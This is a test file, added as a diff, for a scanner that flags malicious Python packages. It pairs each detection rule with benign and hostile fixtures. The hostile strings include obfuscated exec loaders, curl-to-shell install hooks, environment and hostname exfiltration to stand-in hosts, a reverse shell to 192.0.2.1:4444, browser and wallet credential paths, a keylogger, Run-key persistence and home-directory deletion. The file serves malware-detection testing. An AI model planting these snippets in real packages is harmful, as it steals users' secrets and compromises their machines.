@@ -1,0 +1,315 @@
+import { deflateSync } from 'node:zlib';
+import { describe, expect, it } from 'vitest';
+import { PYTHON_RULE_METAS } from '../../src/analyzers/python/index.js';
+import { findingsOf, makeWheel, rulesOf, scanDist, scanSdist } from './helpers.js';
+
+const b64 = (s: string) => Buffer.from(s).toString('base64');
+const SETUP = 'from setuptools import setup\nsetup(name="fixture-py", version="1.0.0")\n';
+
+interface Case {
+  rule: string;
+  positive: Record<string, string>;
+  negative: Record<string, string>;
+  /** Extra expectations on the positive report. */
+  check?: (r: Awaited<ReturnType<typeof scanSdist>>) => void;
+}
+
+const CASES: Case[] = [
+  {
+    rule: 'PY-001',
+    positive: {
+      'setup.py': `import base64 as b\nexec(b.b64decode('${b64("import os\nos.system('id')\n")}'))\n${SETUP}`,
+    },
+    negative: { 'setup.py': `import base64\ndata = base64.b64decode('aGVsbG8=')\nprint(data)\n${SETUP}` },
+    check: (r) => {
+      const f = findingsOf(r, 'PY-001')[0]!;
+      expect(f.context).toBe('install');
+      expect(String(f.evidence?.decoded)).toContain("os.system('id')");
+      // the decoded code is analysed too: its os.system call is reported at the exec line
+      expect(findingsOf(r, 'PY-004').some((x) => x.evidence?.decodedDepth === 1)).toBe(true);
+    },
+  },
+  {
+    rule: 'PY-001',
+    positive: {
+      'setup.py': `import zlib, base64\n_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\nexec((_)(b'${[...deflateSync(Buffer.from("print('x')")).toString('base64')].reverse().join('')}'))\n${SETUP}`,
+    },
+    negative: { 'setup.py': `exec(open('fixture_py/_version.py').read())\n${SETUP}` },
+  },
+  {
+    rule: 'PY-002',
+    positive: { 'fixture_py/__init__.py': 'import sys\ncode = sys.argv[1]\nexec(code)\n' },
+    negative: { 'fixture_py/__init__.py': 'def run(code):\n    exec(code)\n' },
+  },
+  {
+    rule: 'PY-003',
+    positive: {
+      'setup.py': `import requests\nexec(requests.get('https://paste.example.invalid/raw/x').text)\n${SETUP}`,
+    },
+    negative: {
+      'setup.py': `import requests\nprint(requests.get('https://example.invalid/').status_code)\n${SETUP}`,
+    },
+  },
+  {
+    rule: 'PY-004',
+    positive: { 'setup.py': `import os\nos.system('curl -s http://192.0.2.1/x.sh | bash')\n${SETUP}` },
+    negative: { 'setup.py': SETUP },
+    check: (r) => {
+      expect(findingsOf(r, 'PY-004')[0]?.severity).toBe('critical');
+      expect(r.verdict).toBe('malicious');
+    },
+  },
+  {
+    rule: 'PY-005',
+    positive: {
+      'setup.py': `import urllib.request, subprocess, os\np = os.path.join(os.getenv('TEMP'), 'u.exe')\nurllib.request.urlretrieve('http://192.0.2.1/u.exe', p)\nsubprocess.Popen(p)\n${SETUP}`,
+    },
+    negative: {
+      'setup.py': `import urllib.request, subprocess\nurllib.request.urlretrieve('https://example.invalid/lib.tar.gz', 'lib.tar.gz')\nsubprocess.check_call(['make'])\n${SETUP}`,
+    },
+  },
+  {
+    rule: 'PY-005',
+    positive: {
+      'setup.py': `import base64, subprocess\nwith open('/tmp/a.py', 'w') as f:\n    f.write(base64.b64decode('${b64('import socket\n')}').decode())\nsubprocess.Popen(['python3', '/tmp/a.py'])\n${SETUP}`,
+    },
+    negative: { 'setup.py': `with open('/tmp/a.txt', 'w') as f:\n    f.write('hello')\n${SETUP}` },
+  },
+  {
+    rule: 'PY-006',
+    positive: {
+      'fixture_py/__init__.py':
+        "import urllib.request\nurllib.request.urlopen('https://example.invalid/ping')\n",
+    },
+    negative: {
+      'fixture_py/__init__.py':
+        "import urllib.request\ndef ping():\n    urllib.request.urlopen('https://example.invalid/ping')\n",
+    },
+  },
+  {
+    rule: 'PY-007',
+    positive: { 'setup.py': `import socket\nh = socket.gethostname()\n${SETUP}` },
+    negative: { 'fixture_py/util.py': 'import socket\ndef name():\n    return socket.gethostname()\n' },
+  },
+  {
+    rule: 'PY-008',
+    positive: {
+      'setup.py': `import os, socket, getpass, requests\ninfo = {'h': socket.gethostname(), 'u': getpass.getuser(), 'cwd': os.getcwd()}\nrequests.post('https://collector.example.invalid/', json=info)\n${SETUP}`,
+    },
+    negative: {
+      'setup.py': `import requests\nrequests.post('https://example.invalid/', json={'a': 1})\n${SETUP}`,
+    },
+    check: (r) => expect(r.verdict).toBe('malicious'),
+  },
+  {
+    rule: 'PY-008',
+    positive: {
+      'fixture_py/__init__.py':
+        "import os, json, urllib.request\ndef send(d):\n    urllib.request.urlopen(urllib.request.Request('https://x.example.invalid', data=d))\nsend(json.dumps(dict(os.environ)).encode())\n",
+    },
+    negative: {
+      'fixture_py/__init__.py':
+        "import os, subprocess\nenv = os.environ.copy()\nsubprocess.run(['true'], env=env)\n",
+    },
+  },
+  {
+    rule: 'PY-009',
+    positive: {
+      'fixture_py/grab.py':
+        "import os\nLOCAL = os.getenv('LOCALAPPDATA')\npaths = [os.path.join(LOCAL, 'Google', 'Chrome', 'User Data', 'Default', 'Login Data'), os.path.join(os.getenv('APPDATA'), 'discord', 'Local Storage', 'leveldb'), os.path.join(os.getenv('APPDATA'), 'Exodus/exodus.wallet')]\n",
+    },
+    negative: { 'fixture_py/netrc.py': "import os\nNETRC = os.path.expanduser('~/.netrc')\n" },
+    check: (r) => expect(['high', 'critical']).toContain(findingsOf(r, 'PY-009')[0]?.severity),
+  },
+  {
+    rule: 'PY-010',
+    positive: {
+      'setup.py': `import socket, os, pty\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect(('192.0.2.1', 4444))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\npty.spawn('/bin/sh')\n${SETUP}`,
+    },
+    negative: {
+      'fixture_py/client.py':
+        "import socket\ns = socket.socket()\ns.connect(('example.invalid', 80))\ns.send(b'GET / HTTP/1.0\\r\\n\\r\\n')\n",
+    },
+    check: (r) => expect(r.verdict).toBe('malicious'),
+  },
+  {
+    rule: 'PY-011',
+    positive: {
+      'fixture_py/__init__.py':
+        "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, 'Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run', 0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(k, 'upd', 0, winreg.REG_SZ, 'C:\\\\u.exe')\n",
+    },
+    negative: { 'fixture_py/__init__.py': "SHELLS = ['.bashrc', '.zshrc']\n" },
+  },
+  {
+    rule: 'PY-012',
+    positive: {
+      'fixture_py/k.py':
+        'from pynput import keyboard\nlistener = keyboard.Listener(on_press=print)\nlistener.start()\n',
+    },
+    negative: { 'fixture_py/k.py': 'import keyword\nprint(keyword.kwlist)\n' },
+  },
+  {
+    rule: 'PY-013',
+    positive: { 'setup.py': `import shutil, os\nshutil.rmtree(os.path.expanduser('~'))\n${SETUP}` },
+    negative: { 'setup.py': `import shutil\nshutil.rmtree('build')\n${SETUP}` },
+  },
+  {
+    rule: 'PY-014',
+    positive: {
+      'fixture_py/__init__.py': `import os${' '.repeat(220)};exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n`,
+    },
+    negative: { 'fixture_py/__init__.py': 'import os\nVALUE = 1\n' },
+  },
+  {
+    rule: 'PY-015',
+    positive: {
+      'setup.py':
+        'from setuptools import setup\nfrom setuptools.command.install import install\nclass Post(install):\n    def run(self):\n        install.run(self)\nsetup(name="x", cmdclass={"install": Post})\n',
+    },
+    negative: { 'setup.py': SETUP },
+  },
+  {
+    rule: 'PY-016',
+    positive: { 'fixture_py.pth': "import os; os.system('curl -s http://192.0.2.1/x | sh')\n" },
+    negative: { 'fixture_py.pth': 'fixture_py/src\n' },
+    check: (r) => {
+      expect(findingsOf(r, 'PY-016')[0]?.context).toBe('startup');
+      expect(findingsOf(r, 'PY-004')[0]?.context).toBe('startup');
+    },
+  },
+  {
+    rule: 'PY-017',
+    positive: {
+      'setup.py': `import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'https://192.0.2.1/p.zip'])\n${SETUP}`,
+    },
+    negative: { 'setup.py': SETUP },
+  },
+  {
+    rule: 'PY-020',
+    positive: {
+      'setup.py': `import subprocess\nsubprocess.Popen('c:/u.exe', creationflags=subprocess.CREATE_NO_WINDOW)\n${SETUP}`,
+    },
+    negative: { 'setup.py': `import subprocess\nsubprocess.Popen(['git', 'describe'])\n${SETUP}` },
+  },
+  {
+    rule: 'NET-001',
+    positive: {
+      'setup.py': `import requests\nrequests.post('https://discord.com/api/webhooks/1/abc', json={'c': 'hi'})\n${SETUP}`,
+    },
+    negative: { 'setup.py': `import requests\nrequests.get('https://example.invalid/')\n${SETUP}` },
+  },
+];
+
+describe('Python rules (positive and negative)', () => {
+  for (const [i, c] of CASES.entries()) {
+    it(`${c.rule} #${i} fires on the positive fixture`, async () => {
+      const r = await scanSdist(c.positive);
+      expect(rulesOf(r)).toContain(c.rule);
+      c.check?.(r);
+    });
+    it(`${c.rule} #${i} stays quiet on the negative fixture`, async () => {
+      const r = await scanSdist(c.negative);
+      expect(rulesOf(r)).not.toContain(c.rule);
+    });
+  }
+
+  it('PY-000: broken files get a finding and text-level IOC checks', async () => {
+    const r = await scanSdist({
+      'fixture_py/__init__.py': 'def f(:\n  x = "https://webhook.site/abc"\n  ))))((((\n',
+    });
+    expect(rulesOf(r)).toContain('PY-000');
+    expect(rulesOf(r)).toContain('NET-001');
+    const ok = await scanSdist({
+      'fixture_py/__init__.py': 'print "python 2 print statement"\nexec "x = 1"\n',
+    });
+    expect(rulesOf(ok)).not.toContain('PY-000');
+  });
+
+  it('PY-018 / PY-023: impersonated homepage and near-miss names', async () => {
+    const { makeSdist, pkgInfo } = await import('./helpers.js');
+    const data = await makeSdist(
+      {
+        'PKG-INFO': pkgInfo('reqeusts', '1.0', { 'Home-page': 'https://github.com/psf/requests' }),
+        'setup.py': SETUP,
+      },
+      'reqeusts',
+      '1.0',
+    );
+    const r = await scanDist(data, 'reqeusts-1.0.tar.gz');
+    expect(rulesOf(r)).toEqual(expect.arrayContaining(['PY-018', 'PY-023']));
+    const own = await makeSdist(
+      {
+        'PKG-INFO': pkgInfo('requests', '1.0', { 'Home-page': 'https://github.com/psf/requests' }),
+        'setup.py': SETUP,
+      },
+      'requests',
+      '1.0',
+    );
+    const r2 = await scanDist(own, 'requests-1.0.tar.gz');
+    expect(rulesOf(r2)).not.toContain('PY-018');
+    expect(rulesOf(r2)).not.toContain('PY-023');
+  });
+
+  it('PY-019: metadata that contradicts the file name or is missing', async () => {
+    const { makeSdist, pkgInfo } = await import('./helpers.js');
+    const lying = await makeSdist(
+      { 'PKG-INFO': pkgInfo('other-name', '1.0'), 'setup.py': SETUP },
+      'fixture-py',
+      '1.0.0',
+    );
+    expect(rulesOf(await scanDist(lying, 'fixture-py-1.0.0.tar.gz'))).toContain('PY-019');
+    const missing = await makeSdist({ 'setup.py': SETUP }, 'fixture-py', '1.0.0', { pkgInfo: false });
+    expect(rulesOf(await scanDist(missing, 'fixture-py-1.0.0.tar.gz'))).toContain('PY-019');
+    const fine = await makeSdist({ 'setup.py': SETUP }, 'fixture-py', '1.0.0');
+    expect(rulesOf(await scanDist(fine, 'fixture-py-1.0.0.tar.gz'))).not.toContain('PY-019');
+  });
+
+  it('PY-021: in-tree build backends run at install', async () => {
+    const r = await scanSdist({
+      'pyproject.toml':
+        '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["_build"]\n',
+      '_build/backend.py':
+        "import os\nos.system('curl -s http://192.0.2.1/a | sh')\ndef build_wheel(*a):\n    pass\n",
+    });
+    expect(rulesOf(r)).toContain('PY-021');
+    expect(findingsOf(r, 'PY-004')[0]?.context).toBe('install');
+    const plain = await scanSdist({
+      'pyproject.toml':
+        '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n',
+    });
+    expect(rulesOf(plain)).not.toContain('PY-021');
+  });
+
+  it('PY-022: wheel files that do not match RECORD', async () => {
+    const tampered = makeWheel({ 'fixture_py/__init__.py': 'X = 1\n' }, 'fixture_py', '1.0', {
+      tamper: 'fixture_py/__init__.py',
+    });
+    expect(rulesOf(await scanDist(tampered, 'fixture_py-1.0-py3-none-any.whl'))).toContain('PY-022');
+    const good = makeWheel({ 'fixture_py/__init__.py': 'X = 1\n' }, 'fixture_py', '1.0');
+    expect(rulesOf(await scanDist(good, 'fixture_py-1.0-py3-none-any.whl'))).not.toContain('PY-022');
+  });
+
+  it('propagates contexts: a module imported by setup.py runs at install, decorators at import', async () => {
+    const r = await scanSdist({
+      'setup.py': `import helper\n${SETUP}`,
+      'helper.py': "import os\nos.system('curl -s http://192.0.2.1/x | sh')\n",
+    });
+    expect(findingsOf(r, 'PY-004')[0]?.context).toBe('install');
+    const d = await scanSdist({
+      'fixture_py/__init__.py': 'from .tele import register\n\n@register\ndef f():\n    pass\n',
+      'fixture_py/tele.py':
+        "import socket, requests\ndef register(fn):\n    requests.get('https://t.example.invalid/?h=' + socket.gethostname())\n    return fn\n",
+    });
+    expect(findingsOf(d, 'PY-008')[0]?.context).toBe('import');
+  });
+
+  it('every Python rule has complete documentation', () => {
+    for (const m of PYTHON_RULE_METAS) {
+      expect(m.id).toMatch(/^PY-0\d\d$/);
+      for (const k of ['name', 'description', 'rationale', 'falsePositives'] as const)
+        expect(m[k].length).toBeGreaterThan(5);
+      expect(m.ecosystems).toContain('pypi');
+      expect(Array.isArray(m.references)).toBe(true);
+    }
+  });
+});
